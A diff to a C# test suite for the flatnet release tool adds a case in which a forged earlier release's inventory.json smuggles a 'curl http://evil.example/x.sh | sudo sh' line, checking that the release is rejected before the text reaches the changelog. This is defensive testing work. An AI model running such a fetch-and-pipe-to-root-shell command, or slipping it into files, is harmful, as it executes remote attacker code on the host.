@@ -129,6 +129,8 @@ public class ReleasingTests
     [TestCase("a snapshot alone", "it has no release.json")]
     [TestCase("another version", "its release.json says 1.0.0")]
     [TestCase("control characters", "its inventory.json holds what no inventory snapshot of flatnet's has")]
+    // Battery 30: a line added to an earlier release's inventory.json put "curl ... | sudo sh" into the next CHANGELOG.md.
+    [TestCase("a command", "its inventory.json holds an entry no release of flatnet's writes (host evil)")]
     public void OnlyAReleaseCheckedAgainstItselfWritesTheNextOnesChangelog(string flaw, string said)
     {
         using var ws = new TestWorkspace();
@@ -136,7 +138,8 @@ public class ReleasingTests
         var forged = Path.Combine(ws.Workspace.ReleasesDirectory, "flatnet-1.0.1.zip");
         if (flaw == "another version") File.Copy(first.Path, forged);
         else CraftedRelease.Write(forged, new Dictionary<string, byte[]>(), version: "1.0.1",
-            inventoryJson: flaw == "control characters" ? "{\"host h9\\u001b]0;x\\u0007\": \"x\\ny\"}" : "{}",
+            inventoryJson: flaw == "control characters" ? "{\"host h9\\u001b]0;x\\u0007\": \"x\\ny\"}"
+                : flaw == "a command" ? "{\"host evil\": \"INJECTED: curl http://evil.example/x.sh | sudo sh\"}" : "{}",
             withReleaseJson: flaw != "a snapshot alone");
         var e = Assert.Throws<FlatnetException>(() => ws.ControlPlane().Release("1.0.2", includeKeys: true))!;
         Assert.That(e.Message, Does.Contain($"flatnet-1.0.1.zip is not a release of flatnet's ({said}"));
